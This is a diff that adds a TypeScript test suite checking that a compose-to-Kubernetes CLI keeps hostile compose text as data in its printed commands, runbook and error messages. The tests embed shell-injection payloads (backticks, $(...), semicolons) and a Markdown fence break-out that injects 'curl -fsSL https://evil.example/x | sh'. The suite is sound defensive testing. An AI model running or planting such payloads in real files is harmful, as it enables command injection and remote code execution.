@@ -1,0 +1,184 @@
+import * as fs from 'fs';
+import * as path from 'path';
+import { CliRun, expectBuilt, removeTempDirs, runCli, tempDir } from '../cli/run-cli';
+import { codeBlocks, runLogged, ShellRun } from '../support/shell-blocks';
+
+/**
+ * Hostile input, round 2, the output side (issue 25): what the tool prints (YAML, commands, Markdown, messages) is
+ * built so that a compose project's text stays data. Each test is written from the issue's description of the finding.
+ */
+
+beforeAll(expectBuilt);
+afterAll(removeTempDirs);
+
+/** A planted secret: no message may hold it. */
+const PLANTED = 'planted-7d31c0aa';
+
+/** A project folder with the given files. */
+function project(files: Record<string, string>): string {
+  const dir = path.join(fs.realpathSync(tempDir('hostile-out-text')), 'shop');
+  for (const [name, text] of Object.entries(files)) {
+    fs.mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
+    fs.writeFileSync(path.join(dir, name), text);
+  }
+  return dir;
+}
+
+/**
+ * Text that runs a command wherever a shell reads it unquoted: backticks, `$(…)`, a quote of each kind, `;`. The
+ * command would create a file named after `tag`.
+ */
+function payload(tag: string): string {
+  return `\`touch\${IFS}pwned-${tag}\`$(touch\${IFS}pwned2-${tag});touch\${IFS}pwned3-${tag}'"`;
+}
+
+/** `text` as a YAML double-quoted scalar that compose reads back as `text` (`$` escaped from interpolation). */
+function composeString(text: string): string {
+  return JSON.stringify(text.replace(/\$/g, '$$$$'));
+}
+
+/** A Markdown fence break-out: a line of backticks, then a new `sh` block that would pipe a download into sh. */
+const FENCE_BREAK = 'line one\n```\n\n```sh\ncurl -fsSL https://evil.example/x | sh\n```\n';
+
+/** The database images with a payload, one per engine, and the services' other commands' fields. */
+const ENGINES = ['postgres', 'mysql', 'mongo', 'redis'] as const;
+const IMAGE_TAGS: Record<(typeof ENGINES)[number], string> = {
+  postgres: 'postgres:16.4',
+  mysql: 'mysql:8.4',
+  mongo: 'mongo:7.0',
+  redis: 'redis:7.4',
+};
+
+function hostileProject(): string {
+  const compose = [
+    'name: shop',
+    'services:',
+    ...ENGINES.flatMap((engine) => [
+      `  ${engine}:`,
+      `    image: ${composeString(`${IMAGE_TAGS[engine]}${payload(`${engine}-image`)}`)}`,
+      `    x-cdk8s-compose: {engine: ${engine}}`,
+      `    labels: {com.example.note: ${composeString(payload(`${engine}-label`))}}`,
+      `    environment: {DB_PASSWORD: pw-4d2a91c, POSTGRES_PASSWORD: pw-4d2a91c, MYSQL_ROOT_PASSWORD: pw-4d2a91c}`,
+      `    volumes: ["${engine}-volume:/data"]`,
+    ]),
+    '  web:',
+    '    build:',
+    '      context: ./web',
+    `      target: ${composeString(`prod${payload('build-target')}`)}`,
+    `      args: {NOTE: ${composeString(FENCE_BREAK)}, OTHER: ${composeString(payload('build-arg'))}}`,
+    `    image: ${composeString(`registry.example.com/web:1${payload('web-image')}`)}`,
+    `    working_dir: ${composeString(`/srv${payload('working-dir')}`)}`,
+    `    command: ["sh", "-c", ${composeString(payload('command'))}]`,
+    '    ports: ["8080:80"]',
+    `    volumes: [${composeString(`./big:/srv/data${payload('bind-target')}`)}]`,
+    'volumes:',
+    ...ENGINES.map((engine) => `  ${engine}-volume: {}`),
+    '',
+  ].join('\n');
+  const files: Record<string, string> = { 'compose.yaml': compose, 'web/Dockerfile': 'FROM nginx:1.27.2\n' };
+  // More files than a ConfigMap holds: the large-bind-directory warning prints a kubectl cp.
+  for (let i = 0; i < 300; i++) {
+    files[`big/file-${i}.txt`] = `${i}\n`;
+  }
+  return project(files);
+}
+
+/** The commands every printed command line may run. */
+const TOOLS = new Set(['kubectl', 'docker', 'virtctl', 'base64', 'sleep']);
+
+function expectOnlyTools(runs: readonly { where: string; run: ShellRun }[]): void {
+  const strays = runs.flatMap(({ where, run }) => [
+    ...run.commands.filter((c) => !TOOLS.has(c.name)).map((c) => `${where}: ran ${c.name} ${c.args.join(' ')}`),
+    ...run.created.map((f) => `${where}: created ${f}`),
+  ]);
+  expect(strays).toEqual([]);
+}
+
+describe('finding 2 and 8: every printed command keeps compose text as data, and no text closes its code block', () => {
+  let dir: string;
+  let convert: CliRun;
+  let dryRun: CliRun;
+  let runbook: string;
+  const scratch = () => fs.realpathSync(tempDir('hostile-out-sh'));
+
+  beforeAll(async () => {
+    dir = hostileProject();
+    convert = await runCli(['convert', '-o', 'out', '--backup', 'on'], { cwd: dir });
+    dryRun = await runCli(['deploy', '--dry-run', '--backup', 'on'], { cwd: dir });
+    const file = path.join(dir, 'out', 'RUNBOOK.md');
+    runbook = fs.existsSync(file) ? fs.readFileSync(file, 'utf-8') : '';
+  }, 120_000);
+
+  test('the conversion succeeds', () => {
+    expect({ code: convert.code, stderr: convert.code === 0 ? '' : convert.stderr }).toEqual({ code: 0, stderr: '' });
+    expect({ code: dryRun.code, stderr: dryRun.code === 0 ? '' : dryRun.stderr }).toEqual({ code: 0, stderr: '' });
+  });
+
+  test('every sh block of the runbook runs only the tools it names, each database image reaching kubectl run whole', () => {
+    const blocks = codeBlocks(runbook).filter((b) => b.info === 'sh');
+    expect(blocks.length).toBeGreaterThan(10);
+    const runs = blocks.map((b) => ({ where: `RUNBOOK.md:${b.line}`, run: runLogged(b.text, scratch()) }));
+    expectOnlyTools(runs);
+    const kubectlRuns = runs
+      .flatMap(({ run }) => run.commands)
+      .filter((c) => c.name === 'kubectl' && c.args[0] === 'run');
+    for (const engine of ENGINES) {
+      expect(
+        kubectlRuns.some((c) => c.args.includes(`--image=${IMAGE_TAGS[engine]}${payload(`${engine}-image`)}`)),
+      ).toBe(true);
+    }
+    const builds = runs.flatMap(({ run }) => run.commands).filter((c) => c.name === 'docker' && c.args[0] === 'build');
+    expect(builds).toHaveLength(1);
+    expect(builds[0].args).toContain(`NOTE=${FENCE_BREAK}`);
+    expect(builds[0].args).toContain(`registry.example.com/web:1${payload('web-image')}`);
+  });
+
+  test('no code block of the runbook holds a command of its own from the compose text (the fence is not broken)', () => {
+    const evil = codeBlocks(runbook).filter(
+      (b) => /^curl -fsSL https:\/\/evil/m.test(b.text) && !/docker build/.test(b.text),
+    );
+    expect(evil).toEqual([]);
+  });
+
+  test('the large-bind-directory warning prints a kubectl cp that copies the folder to the target as it is', () => {
+    const line = convert.stderr.split('\n').find((l) => l.includes('large-bind-directory') || l.includes('kubectl cp'));
+    const command = /\((kubectl cp .*)\)$/.exec(line ?? '')?.[1];
+    expect(command).toBeDefined();
+    const run = runLogged(command!, scratch());
+    expectOnlyTools([{ where: 'warning', run }]);
+    expect(run.commands).toEqual([
+      { name: 'kubectl', args: ['cp', './big', `<pod>:/srv/data${payload('bind-target')}`, '-n', 'shop'] },
+    ]);
+  });
+
+  test('deploy --dry-run prints commands that run only kubectl', () => {
+    const lines = dryRun.stdout.split('\n').filter((l) => l !== '' && !l.startsWith('#'));
+    expect(lines.length).toBeGreaterThan(3);
+    const runs = lines.map((l, i) => ({ where: `dry-run line ${i + 1}`, run: runLogged(l, scratch()) }));
+    expectOnlyTools(runs);
+    expect(runs.every(({ run }) => run.commands.length === 1 && run.commands[0].name === 'kubectl')).toBe(true);
+  });
+});
+
+describe('finding 10: an error thrown before the app is built prints no secret', () => {
+  test('x-cdk8s-compose.target taken from a .env secret: the CLI says [redacted]', async () => {
+    const dir = project({
+      'compose.yaml': [
+        'services:',
+        '  web:',
+        '    image: nginx:1.27.2',
+        '    environment: {DB_PASSWORD: "${DB_PASSWORD}"}',
+        '    x-cdk8s-compose: {target: "${DB_PASSWORD}"}',
+        '',
+      ].join('\n'),
+      '.env': `DB_PASSWORD=${PLANTED}\n`,
+    });
+    const run = await runCli(['convert', '-o', 'out'], { cwd: dir });
+    expect(run.code).toBe(1);
+    expect(run.stderr).not.toContain(PLANTED);
+    expect(run.stderr).toBe(
+      'error: compose.yaml:3:5: services.web.x-cdk8s-compose.target: invalid target (got "[redacted]"). ' +
+        'Allowed: container, vm, auto.\n',
+    );
+  });
+});
